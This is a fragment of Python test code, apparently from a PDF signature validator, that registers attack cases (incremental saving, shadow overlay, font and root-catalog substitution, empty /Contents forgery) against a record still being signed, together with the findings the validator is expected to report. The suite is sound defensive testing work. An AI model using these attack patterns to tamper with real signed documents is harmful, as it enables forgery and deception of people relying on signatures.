# The same attacks on a record still being signed (no archive timestamp to break): the
# signatures themselves must say what happened.
_add(
    "isa-page-content-in-progress",
    "ISA",
    _in_progress(isa_page_content),
    {MODIFIED},
    "new page content, record at B-LT",
    require_lta=False,
)
_add(
    "isa-annotation-in-progress",
    "ISA",
    _in_progress(isa_annotation),
    {MODIFIED},
    "FreeText annotation, record at B-LT",
    require_lta=False,
)
_add(
    "shadow-hide-overlay-in-progress",
    "shadow",
    _in_progress(shadow_hide_overlay),
    {"doc.unsigned_field", MODIFIED},
    "opaque overlay field, record at B-LT",
    require_lta=False,
)
_add(
    "shadow-replace-font-in-progress",
    "shadow",
    _in_progress(shadow_replace_font),
    {MODIFIED},
    "font redefined, record at B-LT",
    require_lta=False,
)
_add(
    "shadow-hide-and-replace-root-in-progress",
    "shadow",
    _in_progress(shadow_hide_and_replace_root),
    {MODIFIED},
    "trailer /Root → shadow catalog, record at B-LT",
    require_lta=False,
)
_add(
    "usf-contents-empty-in-progress",
    "USF",
    _in_progress(_forge_last({"/Contents": generic.ByteStringObject(b"")})),
    {"sig.malformed"},
    "/Contents <>, record at B-LT",
    require_lta=False,
)
